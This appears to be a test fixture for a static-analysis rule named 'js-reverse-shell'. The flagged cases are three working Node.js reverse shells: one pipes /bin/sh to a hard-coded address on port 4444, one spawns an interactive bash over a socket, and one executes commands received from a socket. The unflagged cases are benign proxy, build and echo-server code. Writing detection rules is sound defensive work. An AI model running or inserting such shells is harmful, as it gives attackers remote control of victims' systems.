// Classic Node.js reverse shell
(function () {
  var net = require('net'),
    cp = require('child_process'),
    sh = cp.spawn('/bin/sh', []);
  var client = new net.Socket();
  client.connect(4444, '10.10.14.2', function () {
    // ruleid: js-reverse-shell
    client.pipe(sh.stdin);
    // ruleid: js-reverse-shell
    sh.stdout.pipe(client);
    // ruleid: js-reverse-shell
    sh.stderr.pipe(client);
  });
  return /a/;
})();

const net = require('net');
const { spawn, exec } = require('child_process');

function connectBack(host, port) {
  const sock = net.connect(port, host, () => {
    // ruleid: js-reverse-shell
    spawn('/bin/bash', ['-i'], { stdio: [sock, sock, sock] });
  });
}

function agent(host, port) {
  const socket = net.createConnection({ host, port });
  // ruleid: js-reverse-shell
  socket.on('data', (data) => {
    exec(data.toString().trim(), (err, stdout, stderr) => {
      socket.write(stdout + stderr);
    });
  });
}

// ok: js-reverse-shell
function proxy(local, remote) {
  const upstream = net.connect(remote.port, remote.host);
  local.pipe(upstream);
  upstream.pipe(local);
}

function build() {
  // ok: js-reverse-shell
  const child = spawn('npm', ['run', 'build'], { stdio: 'inherit' });
  // ok: js-reverse-shell
  child.stdout.pipe(process.stdout);
}

function chatServer() {
  const server = net.createServer((conn) => {
    // ok: js-reverse-shell
    conn.on('data', (msg) => {
      conn.write(`echo: ${msg}`);
    });
  });
  return server;
}
